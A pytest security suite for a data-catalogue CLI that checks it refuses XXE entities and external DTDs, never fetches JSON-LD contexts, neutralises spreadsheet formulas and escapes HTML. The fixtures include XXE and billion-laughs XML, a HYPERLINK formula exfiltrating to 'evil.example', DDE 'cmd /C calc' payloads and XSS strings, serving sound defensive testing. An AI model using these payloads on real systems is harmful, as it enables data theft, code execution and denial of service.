"""The security cases of issue 16's proof suite, through the real CLI.

- XML entities and DTDs in RDF/XML (XXE to a local file, billion laughs, an external
  DTD on a loopback server): refused or inert, nothing read, nothing fetched;
- JSON-LD contexts, remote (a loopback server that must receive nothing) and
  ``file://`` (a local file that must not be read), at the top, in a node, and nested
  3 to 5,000 levels deep in arrays and in nodes;
- formula payloads (``=``, ``+``, ``-``, ``@``, tab, CR, LF at the start, and a bare
  CR or LF before ``=`` inside a text) through every CSV and XLSX writer, found in the
  CLI by their ``--format`` choices: no live formula for a proper CSV reader, for a
  reader that ends a row at a bare CR or LF, or in the workbook;
- HTML payloads in every HTML page (the reports): only the template's own markup;
- a canary token in the environment variables the sources and the target name
  (``token_env``), against portals that reflect it into an error page and into a
  redirect's query (to the same and to another host): never in any output, log line
  (``-q``, default, ``-v``, ``-vv``, ``--log-format json``), the catalogue file, its
  WAL and shared memory, the lock file or its note.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import secrets
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from enum import Enum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import typer
import yaml

from satudata_cli.cli import app
from tests.helpers.ckan_fixture import CkanFixture, make_packages
from tests.helpers.records import make_record

ROOT = Path(__file__).resolve().parents[2]
DOCUMENTED = {0, 1, 2, 3, 4, 5}


def satudata(args: list[str], cwd: Path, env: dict[str, str] | None = None) -> Any:
    """The real CLI in a subprocess (its own logging set-up, as a user gets it)."""
    full = {k: v for k, v in os.environ.items() if not k.startswith("SATUDATA_")}
    full.update({"NO_COLOR": "1", "LC_ALL": "C.UTF-8", "LANG": "C.UTF-8", "COLUMNS": "200"})
    full["PYTHONPATH"] = str(ROOT)
    full.update(env or {})
    done = subprocess.run(
        [sys.executable, "-m", "satudata_cli", *args],
        cwd=cwd,
        env=full,
        capture_output=True,
        timeout=300,
        check=False,
    )
    out = done.stdout.decode("utf-8", "replace")
    err = done.stderr.decode("utf-8", "replace")
    assert done.returncode in DOCUMENTED, (args, done.returncode, err[-2000:])
    assert "Traceback" not in out + err, err[-3000:]
    assert "internal error" not in (out + err).lower(), err[-2000:]
    return done.returncode, out, err


def write_yaml(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


class Recorder(BaseHTTPRequestHandler):
    """Records every request; answers 404 (a DTD or a context must never be asked)."""

    server: RecordingServer

    def do_GET(self) -> None:
        self.server.paths.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


class RecordingServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Recorder)
        self.paths: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def recorder() -> Iterator[RecordingServer]:
    server = RecordingServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def harvest_documents(tmp_path: Path, docs: dict[str, str]) -> tuple[int, str, str, Path]:
    """One ``dcat`` source per document (read from disk), harvested into a catalogue."""
    cfg = tmp_path / "cfg"
    for name, text in docs.items():
        (cfg / "docs").mkdir(parents=True, exist_ok=True)
        (cfg / "docs" / name).write_text(text, encoding="utf-8")
        sid = name.split(".")[0]
        write_yaml(
            cfg / f"{sid}.yaml",
            {"id": sid, "type": "dcat", "path": f"docs/{name}", "organization": "Kota Medan"},
        )
    db = tmp_path / "katalog.db"
    code, out, err = satudata(
        ["--db", str(db), "--config-dir", str(cfg), "harvest", "--all", "--json"], tmp_path
    )
    return code, out, err, db


def catalogue_text(db: Path) -> str:
    if not db.exists():
        return ""
    conn = sqlite3.connect(db)
    try:
        return "\n".join(
            str(row) for row in conn.execute("SELECT record, title, notes FROM datasets")
        )
    finally:
        conn.close()


# ============================================================ entities and DTDs (RDF/XML)

SECRET_FILE_TEXT = "rahasia-berkas-lokal-" + secrets.token_hex(6)

_RDF_BODY = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
  xmlns:dcat="http://www.w3.org/ns/dcat#" xmlns:dct="http://purl.org/dc/terms/">
 <dcat:Catalog rdf:about="https://data.example.go.id/catalog">
  <dcat:dataset><dcat:Dataset rdf:about="https://data.example.go.id/dataset/1">
   <dct:identifier>ds-1</dct:identifier>
   <dct:title>{title}</dct:title>
   <dct:description>Jumlah penduduk per kecamatan.</dct:description>
  </dcat:Dataset></dcat:dataset>
 </dcat:Catalog>
</rdf:RDF>
"""


def _xml(prolog: str, title: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n' + prolog + "\n" + _RDF_BODY.format(title=title)
    )


def test_xml_entities_and_dtds_are_refused(tmp_path: Path, recorder: RecordingServer) -> None:
    """XXE (a SYSTEM entity to a local file and to the loopback server), a parameter
    entity, billion laughs and an external DTD: each source refuses its document or
    reads it without expanding anything; no file content is stored, no request made."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET_FILE_TEXT, encoding="utf-8")
    lol = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))
    docs = {
        "xxefile.rdf": _xml(
            f'<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file://{secret}">]>', "Judul &x;"
        ),
        "xxehttp.rdf": _xml(
            f'<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "{recorder.url}/entity">]>', "Judul &x;"
        ),
        "param.rdf": _xml(
            f'<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "{recorder.url}/param"> %p;]>', "Judul"
        ),
        "laughs.rdf": _xml(f'<!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">{lol}]>', "&l9;"),
        "dtd.rdf": _xml(f'<!DOCTYPE rdf:RDF SYSTEM "{recorder.url}/external.dtd">', "Judul"),
        "bundled.rdf": (ROOT / "tests/data/dcat/billion-laughs.rdf").read_text(encoding="utf-8"),
    }
    code, out, err, db = harvest_documents(tmp_path, docs)
    assert code in (3, 5), err
    outcomes = {o["source"]: o for o in json.loads(out)}
    assert set(outcomes) == {name.split(".")[0] for name in docs}
    for sid, outcome in outcomes.items():
        assert outcome["status"] == "failed", (sid, outcome)
        assert "entit" in outcome["error"].lower() or "dtd" in outcome["error"].lower(), outcome
    assert recorder.paths == []
    assert SECRET_FILE_TEXT not in out + err + catalogue_text(db)
    assert "lollollol" not in catalogue_text(db)


# ============================================================ JSON-LD contexts at any depth


def _jsonld(context: Any, where: str, depth: int) -> str:
    """The bundled JSON-LD catalogue with ``context`` placed ``where``, ``depth`` deep
    (written as text: 5,000 levels are too deep for ``json.dumps``)."""
    doc: dict[str, Any] = json.loads(
        (ROOT / "tests/data/dcat/catalog.jsonld").read_text(encoding="utf-8")
    )
    if where == "top":
        doc["@context"] = [doc.get("@context", {}), context]
        return json.dumps(doc)
    node = json.dumps({"@context": context, "@id": "https://x.example/n", "dct:title": "x"})
    if where == "arrays":
        nested = "[" * depth + node + "]" * depth
    else:
        opening = '{"@id": "https://x.example/n%d", "dct:hasPart": '
        nested = "".join(opening % level for level in range(depth)) + node + "}" * depth
    graph = doc.setdefault("@graph", [])
    graph.append({"@id": "https://x.example/holder", "dct:hasPart": "PLACEHOLDER"})
    return json.dumps(doc).replace('"PLACEHOLDER"', nested)


CONTEXT_CASES = [
    ("top", 0),
    ("node", 0),
    ("arrays", 3),
    ("nodes", 3),
    ("arrays", 300),
    ("nodes", 300),
    ("arrays", 5000),
    ("nodes", 5000),
]


@pytest.mark.parametrize(("where", "depth"), CONTEXT_CASES, ids=lambda v: str(v))
def test_jsonld_contexts_are_never_fetched(
    tmp_path: Path, recorder: RecordingServer, where: str, depth: int
) -> None:
    """A remote context (the loopback server) and a ``file://`` context (a local file
    that would rename ``dct:title``), placed at the top or ``depth`` levels deep:
    the loopback server receives nothing, the file is not read."""
    context_file = tmp_path / "context.jsonld"
    context_file.write_text(
        json.dumps({"@context": {"rahasia": SECRET_FILE_TEXT}}), encoding="utf-8"
    )
    docs = {
        "remote.jsonld": _jsonld(f"{recorder.url}/context", where, depth),
        "remotelist.jsonld": _jsonld([f"{recorder.url}/ctx2"], where, depth),
        "localfile.jsonld": _jsonld(f"file://{context_file}", where, depth),
    }
    code, out, err, db = harvest_documents(tmp_path, docs)
    assert code in (0, 3, 5), err
    assert recorder.paths == []
    assert SECRET_FILE_TEXT not in out + err + catalogue_text(db)
    for outcome in json.loads(out):
        if outcome["status"] == "failed":
            assert "context" in outcome["error"].lower() or "deep" in outcome["error"], outcome


# ============================================================ formula payloads

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Judul biasa\r=1+1",  # defect 8: a bare CR before = inside a text
    "Judul biasa\n=1+1",
    "Judul biasa\r\n@SUM(1)",
]
HTML_PAYLOADS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><iframe src=javascript:alert(1)>",
    "<svg onload=alert(1)><a href=javascript:alert(2)>x</a></svg>",
]


@pytest.fixture(scope="module")
def payloads(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A katalog harvested from records whose texts are formula and HTML payloads:
    titles, organizations (so agency names in reports), produsen data, tags,
    resources; a source whose title is a formula."""
    root = tmp_path_factory.mktemp("payloads")
    cfg, data = root / "cfg", root / "cfg" / "data"
    data.mkdir(parents=True)
    texts = FORMULAS + HTML_PAYLOADS
    records = []
    for i, text in enumerate(texts):
        records.append(
            make_record(
                i,
                title=text,
                notes=text,
                organization=text if i % 2 else f"Dinas {text}",
                produsen_data=text,
                tags=["kesehatan", text],
                link_akses="javascript:alert(1)" if i % 3 == 0 else f"https://x.example/{i}",
                resources=[{"name": text, "url": f"https://x.example/{i}.csv", "format": text}],
            )
        )
    (data / "payloads.json").write_text(json.dumps(records), encoding="utf-8")
    write_yaml(
        cfg / "jahat.yaml",
        {"id": "jahat", "title": FORMULAS[0], "type": "directory", "path": "data"},
    )
    db = root / "katalog.db"
    code, _, err = satudata(["--db", str(db), "--config-dir", str(cfg), "harvest", "--all"], root)
    assert code == 0, err
    # a Daftar Data whose agencies and titles are the payloads (report realisasi)
    with (root / "daftar-data.csv").open("w", encoding="utf-8", newline="") as plan:
        writer = csv.writer(plan)
        writer.writerow(["Perangkat Daerah", "Judul Data", "Frekuensi", "Tahun"])
        writer.writerows([text, text, "tahunan", "2026"] for text in texts)
    return db, cfg


def _format_choices(path: tuple[str, ...]) -> list[str]:
    command: Any = typer.main.get_command(app)
    for name in path:
        command = command.commands[name]
    for param in command.params:
        if "--format" in getattr(param, "opts", ()):
            annotation = getattr(getattr(param, "type_descriptor", None), "annotation", None)
            if isinstance(annotation, type) and issubclass(annotation, Enum):
                return [str(member.value) for member in annotation]
            choices = getattr(getattr(param, "type", None), "choices", None)
            return [str(choice) for choice in choices or ()]
    return []


def _commands() -> list[tuple[str, ...]]:
    out = []

    def walk(command: Any, path: tuple[str, ...]) -> None:
        subs = getattr(command, "commands", None)
        if not subs:
            out.append(path)
            return
        for name, sub in sorted(subs.items()):
            walk(sub, (*path, name))

    walk(typer.main.get_command(app), ())
    return out


# arguments that make each command print rows of the payload katalog
ROW_ARGS: dict[tuple[str, ...], list[str]] = {
    ("catalog", "export"): [],
    ("catalog", "list"): [],
    ("catalog", "search"): ["kesehatan"],
    ("catalog", "show"): ["1"],
    ("catalog", "stats"): [],
    ("jobs", "list"): [],
    ("jobs", "show"): ["1"],
    ("sources", "list"): [],
    ("sources", "check"): ["jahat"],
    ("report", "compliance"): ["--detail"],
    ("report", "freshness"): ["--detail"],
    ("report", "trend"): [],
    ("report", "changes"): [],
    ("report", "links"): ["--detail"],
    # the payload fixture writes the plan next to the katalog (the command's folder)
    ("report", "realisasi"): ["--plan", "daftar-data.csv", "--detail"],
}
#: pages without a sortable table carry no script at all
SCRIPTS: dict[tuple[str, ...], int] = {
    ("report", "changes"): 0,
    ("report", "trend"): 0,
    ("report", "realisasi"): 0,
}
CSV_COMMANDS = [p for p in _commands() if "csv" in _format_choices(p)]
XLSX_COMMANDS = [p for p in _commands() if "xlsx" in _format_choices(p)]
HTML_COMMANDS = [p for p in _commands() if "html" in _format_choices(p)]


def test_every_writer_is_covered() -> None:
    assert set(CSV_COMMANDS) | set(XLSX_COMMANDS) | set(HTML_COMMANDS) <= set(ROW_ARGS)
    assert ("catalog", "export") in CSV_COMMANDS and ("report", "compliance") in HTML_COMMANDS


def _cells_ending_rows_at_cr(text: str) -> list[str]:
    """Cells as a reader that ends a row at a bare CR or LF outside quotes reads them
    (what several spreadsheet programs do)."""
    cells, cell, quoted, i = [], "", False, 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1 : i + 2] == '"':
                cell += '"'
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell += ch
        elif ch == '"' and not cell:
            quoted = True
        elif ch in ",;\r\n":
            cells.append(cell)
            cell = ""
        else:
            cell += ch
        i += 1
    cells.append(cell)
    return cells


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula (numbers are values)."""
    if not cell or cell[0] not in "=+-@\t\r\n":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("path", CSV_COMMANDS, ids=" ".join)
def test_no_live_formula_in_csv(payloads: tuple[Path, Path], path: tuple[str, ...]) -> None:
    db, cfg = payloads
    code, out, err = satudata(
        ["--db", str(db), "--config-dir", str(cfg), *path, *ROW_ARGS[path], "--format", "csv"],
        db.parent,
    )
    assert code == 0, err
    assert out.strip(), "no CSV"
    proper = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
    naive = _cells_ending_rows_at_cr(out)
    live = [c for c in proper if _live(c)] + [c for c in naive if _live(c)]
    assert not live, live[:5]


@pytest.mark.parametrize("path", XLSX_COMMANDS, ids=" ".join)
def test_no_live_formula_in_xlsx(payloads: tuple[Path, Path], path: tuple[str, ...]) -> None:
    from openpyxl import load_workbook

    db, cfg = payloads
    target = db.parent / f"{'-'.join(path)}.xlsx"
    argv = ["--db", str(db), "--config-dir", str(cfg), *path, *ROW_ARGS[path]]
    code, _, err = satudata([*argv, "--format", "xlsx", "--output", str(target)], db.parent)
    assert code == 0, err
    book = load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 100
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, formulas[:5]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _live(t)], [t for t in texts if _live(t)][:5]


# ============================================================ HTML payloads


class _Markup(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((k, v or "") for k, v in attrs)


@pytest.mark.parametrize("path", HTML_COMMANDS, ids=" ".join)
def test_html_payloads_are_text(
    payloads: tuple[Path, Path], path: tuple[str, ...], html_checks: Any
) -> None:
    db, cfg = payloads
    argv = ["--db", str(db), "--config-dir", str(cfg), *path, *ROW_ARGS[path], "--format", "html"]
    code, page, err = satudata(argv, db.parent)
    assert code == 0, err
    scripts = SCRIPTS.get(path, 1)
    html_checks(page, scripts)
    markup = _Markup()
    markup.feed(page)
    assert not {"img", "iframe"} & set(markup.tags), set(markup.tags)
    assert markup.tags.count("script") == scripts
    assert not [k for k, _ in markup.attrs if k.startswith("on")]
    urls = [v for k, v in markup.attrs if k in ("href", "src", "action", "formaction")]
    assert not [v for v in urls if v.strip().lower().startswith(("javascript:", "data:"))]
    assert "&lt;script&gt;alert(" in page  # the payload is there, as text


# ============================================================ the canary token


class Portal(BaseHTTPRequestHandler):
    """A portal that mishandles the token in every way it can be mishandled:
    ``/reflect`` redirects to another host with the token in the query, ``/same``
    to this host with it, ``/landing`` answers 503 (so the client retries and logs
    the URL), ``/echo`` answers 403 with the request's headers in the body."""

    server: PortalServer

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        token = self.headers.get("Authorization") or self.headers.get("X-Api-Key") or "none"
        self.server.tokens_seen.append(token)
        prefix = "/" + urlsplit(self.path).path.strip("/").split("/", 1)[0]
        port = self.server.server_address[1]
        rest = self.path[len(prefix) :]
        if prefix == "/reflect":
            self._redirect(f"http://localhost:{port}/landing{rest}", token)
        elif prefix == "/same":
            self._redirect(f"http://127.0.0.1:{port}/landing{rest}", token)
        elif prefix == "/landing":
            self._send(
                503,
                {"success": False, "error": {"message": f"sibuk {self.path}"}},
                {"Retry-After": "0"},
            )
        else:  # /echo and anything else
            body = {
                "success": False,
                "error": {"message": f"Akses ditolak: {token}", "headers": dict(self.headers)},
            }
            self._send(403, body)

    def _redirect(self, location: str, token: str) -> None:
        # the token reflected where no list of secret parameter names finds it
        sep = "&" if "?" in location else "?"
        self.send_response(302)
        self.send_header("Location", f"{location}{sep}sesi={token}")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _send(self, status: int, body: Any, headers: dict[str, str] | None = None) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = _answer
    do_POST = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


class PortalServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Portal)
        self.tokens_seen: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def portal() -> Iterator[PortalServer]:
    server = PortalServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _files_beside(db: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in db.parent.glob(db.name + "*") if p.is_file()}


def test_canary_token_never_leaves_the_environment(tmp_path: Path, portal: PortalServer) -> None:
    """The canary token of ``token_env`` in no output, log, catalogue, WAL or lock file,
    in every mode, against portals that reflect it into redirects and error pages."""
    canary = "sdtok" + secrets.token_hex(16)
    env = {"CANARY_TOKEN": canary}
    cfg = tmp_path / "cfg"
    http = {"retries": 2, "timeout": 10, "requests_per_second": 1000}
    with CkanFixture(make_packages(5, seed=4)) as good:
        sources = {
            "ckan-ok": {"type": "ckan", "url": good.url},
            "ckan-reflect": {"type": "ckan", "url": f"{portal.url}/reflect"},
            "ckan-same": {"type": "ckan", "url": f"{portal.url}/same"},
            "ckan-echo": {"type": "ckan", "url": f"{portal.url}/echo"},
            "api-echo": {
                "type": "jsonapi",
                "url": f"{portal.url}/echo/datasets",
                "jsonapi": {"records": "data", "id": "id", "fields": {"title": "judul"}},
            },
        }
        for sid, body in sources.items():
            write_yaml(
                cfg / f"{sid}.yaml",
                {
                    "id": sid,
                    "organization": "Kota Medan",
                    "token_env": "CANARY_TOKEN",
                    "http": http,
                    **body,
                },
            )
        write_yaml(
            cfg / "targets" / "portal.yaml",
            {
                "id": "portal",
                "type": "ckan",
                "url": f"{portal.url}/echo",
                "token_env": "CANARY_TOKEN",
                "http": {"retries": 1},
            },
        )
        db = tmp_path / "katalog.db"
        base = ["--db", str(db), "--config-dir", str(cfg)]
        runs = [
            ["harvest", "--all"],
            ["-q", "harvest", "--all", "--full"],
            ["-v", "harvest", "--all", "--full", "--json"],
            ["-vv", "--log-format", "json", "harvest", "--all", "--full"],
            ["-vv", "harvest", "--all", "--dry-run"],
            ["-vv", "sources", "check", "ckan-reflect"],
            ["-vv", "sources", "check", "ckan-same"],
            ["-v", "--log-format", "json", "sources", "check", "ckan-echo"],
            ["-vv", "sources", "check", "api-echo"],
            ["sources", "list", "--format", "json"],
            ["-vv", "publish", "portal", "--dry-run"],
            ["-vv", "--log-format", "json", "publish", "portal", "--json"],
        ]
        seen: list[str] = []
        files: dict[str, bytes] = {}
        holder: sqlite3.Connection | None = None
        for args in runs:
            _, out, err = satudata([*base, *args], tmp_path, env)
            seen.append(out + err)
            if holder is None and db.exists():
                # a reader kept open: the next runs' WAL stays on disk to be read
                holder = sqlite3.connect(db)
                holder.execute("SELECT count(*) FROM datasets").fetchone()
            for name, data in _files_beside(db).items():
                files[f"{name} after {' '.join(args)}"] = data
        assert holder is not None
        holder.close()
        # the lock note exists only while a run holds the lock: read it then
        lock_note = Path(f"{db}.lock.json")
        running = subprocess.Popen(
            [sys.executable, "-m", "satudata_cli", *base, "-vv", "harvest", "--all", "--full"],
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(ROOT), **env},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        note = b""
        while running.poll() is None and not note:
            if lock_note.exists():
                note = lock_note.read_bytes()
        out_b, err_b = running.communicate(timeout=300)
        seen.append((out_b + err_b).decode("utf-8", "replace"))
        files["lock note while running"] = note
        assert note, "the lock note was never seen"
        jobs = json.loads(satudata([*base, "jobs", "list", "--format", "json"], tmp_path)[1])
        for job in jobs:
            seen.append(
                satudata([*base, "jobs", "show", str(job["id"]), "--format", "json"], tmp_path)[1]
            )
        for fmt in ("jsonl", "datajson", "csv"):
            seen.append(satudata([*base, "catalog", "export", "--format", fmt], tmp_path)[1])
        seen.append(satudata([*base, "catalog", "list", "--format", "json"], tmp_path)[1])
    assert canary in portal.tokens_seen  # the portal did get it, on its own origin
    assert any(name.endswith("-wal after harvest --all") or "-wal" in name for name in files)
    leaks = [i for i, text in enumerate(seen) if canary in text]
    assert not leaks, [runs[i] if i < len(runs) else i for i in leaks]
    leaked_files = [name for name, data in files.items() if canary.encode() in data]
    assert not leaked_files, leaked_files
    assert canary not in catalogue_text(db)
